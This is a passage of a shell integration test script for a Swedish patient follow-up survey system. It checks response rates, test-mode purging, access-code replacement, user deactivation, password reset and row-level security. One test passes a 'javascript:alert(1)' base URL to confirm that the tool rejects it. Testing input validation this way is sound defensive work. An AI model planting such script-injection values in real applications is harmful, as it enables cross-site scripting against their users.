check "the 24-month wave's patient rates count its $n24 submitted answers (got $g24)" [ $? = 0 ]
# invited: participants with a code, a consent answer or a response in the
# wave, counted here with a UNION of the three tables (not the view).
inv_all=$(sql "SELECT count(*) FROM (SELECT participant_id, wave_id FROM access_code UNION SELECT participant_id, wave_id FROM consent UNION SELECT participant_id, wave_id FROM response) x JOIN wave w USING (wave_id) WHERE w.study_id = $DEMO")
got=$(awk -F, 'NR > 1 { s += $(NF-5) } END { print s + 0 }' "$ART/ev-rates.csv")
check "rates: invited sums to every participant a wave reached ($inv_all)" [ "$got" = "$inv_all" ]

# Participant status: its counts equal the export's.
st=$(sql "SELECT string_agg(months || ':' || n, ' ' ORDER BY months) FROM (SELECT months, count(*) n FROM participant_status WHERE study_id = $DEMO AND state = 'submitted' AND NOT test GROUP BY months) x")
ex=$(python3 -c 'import csv,sys,collections
c = collections.Counter(r["wave"] for r in csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8-sig")))
print(" ".join("%s:%d" % (k, c[k]) for k in sorted(c, key=int)))' "$ART/ev-wide.csv")
[ -n "$ex" ] && [ "$st" = "$ex" ]
check "status: submitted per wave equals the wide export ($ex)" [ $? = 0 ]

# Test mode. A participant with a submitted answer in the open wave gets a
# code there (written directly: the demo's answers have none) and it is
# marked as a test code: the answer must leave rates, the export and the
# report, come back when unmarked, and go for good with test-purge.
TP=$(sql "SELECT p.panel_id FROM response r JOIN participant p USING (participant_id) JOIN wave w USING (wave_id) WHERE w.study_id = $DEMO AND w.months = $WAVE AND r.status = 'submitted' AND p.grp = 'patient' AND NOT EXISTS (SELECT 1 FROM access_code c WHERE c.participant_id = p.participant_id AND c.wave_id = w.wave_id) ORDER BY p.panel_id LIMIT 1")
sql "INSERT INTO access_code (participant_id, wave_id, code_hash, expires_at, used_at) SELECT p.participant_id, w.wave_id, sha256(convert_to('evtools-$TAG', 'UTF8')), now() + interval '1 day', now() FROM participant p, wave w WHERE p.panel_id = '$TP' AND w.study_id = $DEMO AND w.months = $WAVE" >/dev/null
report_csv() {
	rm -rf "$ART/$1"
	"$UF_BUILD/reports/uppfolj-report" delrapport --wave "$WAVE" --study demo \
		--db "$CONN user=uppfolj_report" -o "$ART/$1.pdf" --csv "$ART/$1" --quiet \
		>/dev/null 2>&1
}
wide_has() { grep -c "^$TP," "$1"; }
sub_before=$(awk -F, 'NR > 1 { s += $(NF-1) } END { print s }' "$ART/ev-rates.csv")
report_csv ev-rep-real
adm test-mark --wave "$WAVE" --panel-id "$TP" >"$ART/ev-mark.log" 2>&1
check "test-mark marks a participant's code as test" [ $? = 0 ]
check "the response is flagged test by the database" \
	[ "$(sql "SELECT r.test FROM response r JOIN participant p USING (participant_id) JOIN wave w USING (wave_id) WHERE p.panel_id = '$TP' AND w.months = $WAVE")" = t ]
check "the admin role no longer sees the test response (row-level security)" \
	[ "$(psql -X -qAt -d "$ADB" -c "SELECT count(*) FROM uppfolj.response r JOIN uppfolj.participant p USING (participant_id) WHERE p.panel_id = '$TP'" | tail -1)" = \
	  "$(sql "SELECT count(*) - 1 FROM response r JOIN participant p USING (participant_id) WHERE p.panel_id = '$TP'")" ]
sub_test=$(adm rates --csv | awk -F, 'NR > 1 { s += $(NF-1) } END { print s }')
check "rates: one submitted fewer while it is a test ($sub_before -> $sub_test)" [ "$sub_test" = $((sub_before - 1)) ]
adm export --format wide -o "$ART/ev-wide-test.csv" >/dev/null 2>&1
adm export --format long -o "$ART/ev-long-test.csv" >/dev/null 2>&1
check "export: the test response is in neither the wide nor the long CSV" \
	[ "$(awk -F, -v p="$TP" -v w="$WAVE" '$1 == p && $4 == w' "$ART/ev-wide-test.csv" "$ART/ev-long-test.csv" | wc -l)" = 0 ]
check "export: the participant's real answers in other waves stay ($(wide_has "$ART/ev-wide.csv") -> $(wide_has "$ART/ev-wide-test.csv"))" \
	[ "$(wide_has "$ART/ev-wide-test.csv")" = $(($(wide_has "$ART/ev-wide.csv") - 1)) ]
report_csv ev-rep-test
diff -rq "$ART/ev-rep-real" "$ART/ev-rep-test" >/dev/null 2>&1
rc=$?
check "report --csv: the tables change when the response is a test" [ $rc = 1 ]
check "the report role does not see the test response either" \
	[ "$(psql -X -qAt -d "$CONN user=uppfolj_report" -c "SELECT count(*) FROM uppfolj.response r JOIN uppfolj.participant p USING (participant_id) JOIN uppfolj.wave w USING (wave_id) WHERE p.panel_id = '$TP' AND w.months = $WAVE" | tail -1)" = 0 ]
adm test-mark --wave "$WAVE" --panel-id "$TP" --off >/dev/null 2>&1
report_csv ev-rep-back
check "unmarked, the report's tables are exactly as before" diff -rq "$ART/ev-rep-real" "$ART/ev-rep-back"
check "unmarked, rates count it again" [ "$(adm rates --csv | awk -F, 'NR > 1 { s += $(NF-1) } END { print s }')" = "$sub_before" ]
adm test-mark --wave "$WAVE" --panel-id "$TP" >/dev/null 2>&1
adm test-purge >"$ART/ev-purge.log" 2>&1
check "test-purge deletes the test response ($(cat "$ART/ev-purge.log"))" grep -q "^deleted 1 test responses" "$ART/ev-purge.log"
check "no response, answer or consent of the test pair is left" \
	[ "$(sql "SELECT (SELECT count(*) FROM response r JOIN participant p USING (participant_id) JOIN wave w USING (wave_id) WHERE p.panel_id = '$TP' AND w.months = $WAVE) + (SELECT count(*) FROM consent k JOIN participant p USING (participant_id) JOIN wave w USING (wave_id) WHERE p.panel_id = '$TP' AND w.months = $WAVE)")" = 0 ]
check "test-mark and test-purge are audited" \
	[ "$(sql "SELECT count(*) FROM audit_log WHERE action IN ('code.test', 'test.purge') AND at > now() - interval '10 minutes'")" -ge 4 ]
check "the rates are back to the real answers only" [ "$(adm rates --csv | awk -F, 'NR > 1 { s += $(NF-1) } END { print s }')" = $((sub_before - 1)) ]
adm test-mark --wave "$WAVE" --panel-id "X-NOBODY1" >"$ART/ev-err.log" 2>&1
[ $? = 1 ] && grep -q "har ingen kod" "$ART/ev-err.log"
check "test-mark refuses an unknown participant, in Swedish" [ $? = 0 ]
adm test-mark --panel-id "$TP" >/dev/null 2>&1
check "test-mark without --wave is a usage error" [ $? = 2 ]
adm test-mark --wave 7 >"$ART/ev-err.log" 2>&1
check "test-mark refuses a wave that does not exist" [ $? = 1 ]
adm test-mark --wave "$WAVE" >/dev/null 2>&1 && [ "$(sql "SELECT test FROM wave WHERE study_id = $DEMO AND months = $WAVE")" = t ] &&
	[ "$(adm rates --csv --wave "$WAVE" | awk -F, 'NR > 1' | wc -l)" = 0 ]
check "a test wave drops out of the rates altogether" [ $? = 0 ]
adm test-mark --wave "$WAVE" --off >/dev/null 2>&1
check "and comes back when made real again" [ "$(adm rates --csv --wave "$WAVE" | awk -F, 'NR > 1' | wc -l)" -gt 0 ]

# Void and replace a code: a fresh participant's code, opened (a session
# row, as the collect program writes at login) and with a draft.
adm codes --secret "$UF_SECRET" --wave "$WAVE" --unit "$U1" --group "$GRP" --count 1 \
	--base-url "$BASE" -o "$ART/ev-one.pdf" >/dev/null 2>&1
RP=$(sql "SELECT p.panel_id FROM participant p JOIN access_code c USING (participant_id) ORDER BY c.code_id DESC LIMIT 1")
old_hash=$(sql "SELECT encode(code_hash, 'hex') FROM access_code c JOIN participant p USING (participant_id) WHERE p.panel_id = '$RP'")
sql "INSERT INTO collect_session (token_hash, code_id, participant_id, wave_id, csrf, expires_at) SELECT sha256(convert_to('$TAG-s', 'UTF8')), c.code_id, c.participant_id, c.wave_id, repeat('a', 64), now() + interval '1 hour' FROM access_code c JOIN participant p USING (participant_id) WHERE p.panel_id = '$RP'" >/dev/null
check "a session marks the code opened (status: opened)" \
	[ "$(sql "SELECT state FROM participant_status WHERE panel_id = '$RP'")" = opened ]
adm code-replace --secret "$UF_SECRET" --wave "$WAVE" --panel-id "$RP" --base-url "$BASE" \
	-o "$ART/ev-new.pdf" >"$ART/ev-replace.log" 2>&1
[ $? = 0 ] && [ -s "$ART/ev-new.pdf" ]
check "code-replace writes a new slip" [ $? = 0 ]
check "the old code's hash is gone" [ "$(sql "SELECT count(*) FROM access_code WHERE encode(code_hash, 'hex') = '$old_hash'")" = 0 ]
check "the code's sessions ended at once" [ "$(sql "SELECT count(*) FROM collect_session s JOIN participant p USING (participant_id) WHERE p.panel_id = '$RP'")" = 0 ]
check "the same participant keeps one code for the wave, marked replaced" \
	[ "$(sql "SELECT count(*) || ':' || max(replacements) FROM access_code c JOIN participant p USING (participant_id) WHERE p.panel_id = '$RP'")" = "1:1" ]
pdftotext -layout "$ART/ev-new.pdf" "$ART/ev-new.txt" 2>/dev/null
check "the new slip is for the same participant and wave" grep -q "$WAVE månader" "$ART/ev-new.txt"
new_code=$(grep -oE '\b[2-9A-HJKMNP-Z]{3}-[2-9A-HJKMNP-Z]{3}-[2-9A-HJKMNP-Z]{3}\b' "$ART/ev-new.txt" | head -1)
adm access-export --secret "$UF_SECRET" --code "$new_code" -o "$ART/ev-new.json" >/dev/null 2>&1
check "the new slip's code is the participant's new code (access-export --code finds $RP)" grep -q "\"panel_id\":\"$RP\"" "$ART/ev-new.json"
check "code-replace is audited" [ "$(sql "SELECT count(*) FROM audit_log WHERE action = 'code.replace' AND at > now() - interval '10 minutes'")" -ge 1 ]
adm code-replace --secret "$UF_SECRET" --wave "$WAVE" --panel-id "X-NOBODY1" --base-url "$BASE" \
	-o "$ART/ev-x.pdf" >"$ART/ev-err.log" 2>&1
[ $? = 1 ] && [ ! -e "$ART/ev-x.pdf" ]
check "code-replace refuses an unknown participant (no file left)" [ $? = 0 ]
# The participant submits (used_at is what a submission sets on the code).
sql "UPDATE access_code c SET used_at = now() FROM participant p WHERE p.participant_id = c.participant_id AND p.panel_id = '$RP'" >/dev/null
adm code-replace --secret "$UF_SECRET" --wave "$WAVE" --panel-id "$RP" --base-url "$BASE" \
	-o "$ART/ev-x.pdf" >"$ART/ev-err.log" 2>&1
[ $? = 1 ] && grep -q "redan skickat in" "$ART/ev-err.log"
check "code-replace refuses a used code, in Swedish" [ $? = 0 ]
adm code-replace --secret "$UF_SECRET" --wave "$WAVE" --base-url "$BASE" -o "$ART/ev-x.pdf" >/dev/null 2>&1
check "code-replace without --panel-id is a usage error" [ $? = 2 ]
adm code-replace --secret "$UF_SECRET" --wave "$WAVE" --panel-id "$RP" \
	--base-url 'javascript:alert(1)' -o "$ART/ev-y.pdf" >/dev/null 2>&1
[ $? = 2 ] && [ ! -e "$ART/ev-y.pdf" ]
check "code-replace refuses a base URL that is not http(s), no file left" [ $? = 0 ]
adm code-replace --secret "$UF_SECRET" --wave "$WAVE" --panel-id "$RP" --base-url "$BASE" \
	-o - >/dev/null 2>&1
check "code-replace refuses -o - (usage: the slip holds a code)" [ $? = 2 ]

# Users: deactivate ends sessions and refuses logins; reactivate; reset.
printf '%s\n' "$PW" | adm user-add "${TAG}ev" --role evaluator >/dev/null 2>&1
out=$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}ev"); read -r _ ET _ <<<"$out"
adm user-set "${TAG}ev" deactivate >"$ART/ev-user.log" 2>&1
check "user-set deactivate succeeds" [ $? = 0 ]
[ "$("$PROBE" "$ADB" session "$ET")" = EAUTH ] &&
	[ "$(sql "SELECT count(*) FROM admin_session s JOIN app_user a USING (user_id) WHERE a.username = '${TAG}ev'")" = 0 ]
check "a deactivated user's session ends at once" [ $? = 0 ]
check "a deactivated user cannot log in" [ "$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}ev")" = EAUTH ]
adm user-set "${TAG}ev" reactivate >/dev/null 2>&1
check "a reactivated user logs in again" [ "$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}ev" | cut -c1-2)" = ok ]
adm user-set "${TAG}ev" reset-password >"$ART/ev-reset.log" 2>&1
NEWPW=$(sed -n 's/^new password for .* (shown once): //p' "$ART/ev-reset.log")
check "reset-password prints a new password once" [ ${#NEWPW} = 24 ]
check "the new password logs in" [ "$(printf '%s\n' "$NEWPW" | "$PROBE" "$ADB" login "${TAG}ev" | cut -c1-2)" = ok ]
check "the old password no longer does" [ "$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}ev")" = EAUTH ]
check "the new password is nowhere in the database or the audit log" \
	[ "$(sql "SELECT count(*) FROM audit_log WHERE detail::text LIKE '%$NEWPW%'") $(sql "SELECT count(*) FROM app_user WHERE app_user::text LIKE '%$NEWPW%'")" = "0 0" ]
check "deactivate, reactivate and reset are audited" \
	[ "$(sql "SELECT string_agg(action, ' ' ORDER BY audit_id) FROM audit_log WHERE object IN (SELECT 'user:' || user_id FROM app_user WHERE username = '${TAG}ev') AND action <> 'user.login'")" = "user.deactivate user.reactivate user.password_reset" ]
adm user-set "${TAG}nobody" deactivate >/dev/null 2>&1
check "user-set refuses an unknown user" [ $? = 1 ]
adm user-set "${TAG}ev" delete >/dev/null 2>&1
check "user-set refuses an unknown action (usage)" [ $? = 2 ]
adm user-set "Bad Name" deactivate >/dev/null 2>&1
check "user-set refuses a malformed user name (usage)" [ $? = 2 ]

# contact_status: a unit contact's own units only, no test rows.
cs=$(psql -X -qAt -d "$CDB" -c "SELECT count(*), count(*) FILTER (WHERE unit_id <> $U1) FROM uppfolj.contact_status('$CT', NULL, NULL, NULL, 500, 0)" 2>&1 | tail -1)
[ "${cs%|*}" -gt 0 ] && [ "${cs#*|}" = 0 ]
check "contact_status lists the contact's own unit only (got $cs)" [ $? = 0 ]
[[ $(psql -X -qAt -d "$CDB" -c "SELECT count(*) FROM uppfolj.contact_status('$AT', NULL, NULL, NULL, 10, 0)" 2>&1) == *"not a unit contact"* ]]
check "contact_status refuses an admin's session" [ $? = 0 ]
[[ $(psql -X -qAt -d "$CDB" -c "SELECT count(*) FROM uppfolj.contact_status('$CT', NULL, NULL, NULL, 501, 0)" 2>&1) == *"bad page"* ]]
check "contact_status refuses a page over 500 rows" [ $? = 0 ]
[[ $(psql -X -qAt -d "$CDB" -c "SELECT * FROM uppfolj.participant_status" 2>&1) == *"permission denied"* ]]
check "uppfolj_contact cannot read the status view directly" [ $? = 0 ]

# --- retention --------------------------------------------------------------
R=$(sql "SELECT response_id FROM response WHERE status = 'submitted' ORDER BY response_id DESC LIMIT 1")
sql "UPDATE response SET status = 'draft', submitted_at = NULL, updated_at = now() - interval '30 days',
	draft = '{\"any_item\": {\"d\": true}}' WHERE response_id = $R"
adm purge-drafts --days 0 >/dev/null 2>&1
check "purge-drafts refuses 0 days" [ $? = 2 ]
adm purge-drafts --days 7 >"$ART/purge.log" 2>&1
[ $? = 0 ] && [ "$(sql "SELECT count(*) FROM response WHERE response_id = $R") $(sql "SELECT count(*) FROM answer WHERE response_id = $R")" = "0 0" ]
check "purge-drafts deletes a draft untouched for 30 days" [ $? = 0 ]
adm close-wave --wave "$WAVE" >/dev/null 2>&1
[ $? = 0 ] && [ -n "$(sql "SELECT closed_at FROM wave WHERE study_id = $DEMO AND months = $WAVE")" ]
check "close-wave closes the open wave" [ $? = 0 ]
adm close-wave --wave "$WAVE" >/dev/null 2>&1
check "closing it again is refused" [ $? = 1 ]
adm codes --secret "$UF_SECRET" --wave "$WAVE" --unit "$U1" --group "$GRP" --count 1 \
	--base-url "$BASE" -o "$ART/x.pdf" >/dev/null 2>&1
check "no codes for a closed wave" [ $? = 1 ]
sql "UPDATE wave SET closed_at = NULL WHERE study_id = $DEMO AND months = $WAVE"   # leave the demo usable

# Qualitative coding: uploads, REFI-QDA export and import (qual.sh).
. "$(dirname "$0")/qual.sh"
# The demo's transcripts, codings and report text (demo_qual.sh).
. "$(dirname "$0")/demo_qual.sh"

echo "1..$n"
[ $failed = 0 ]
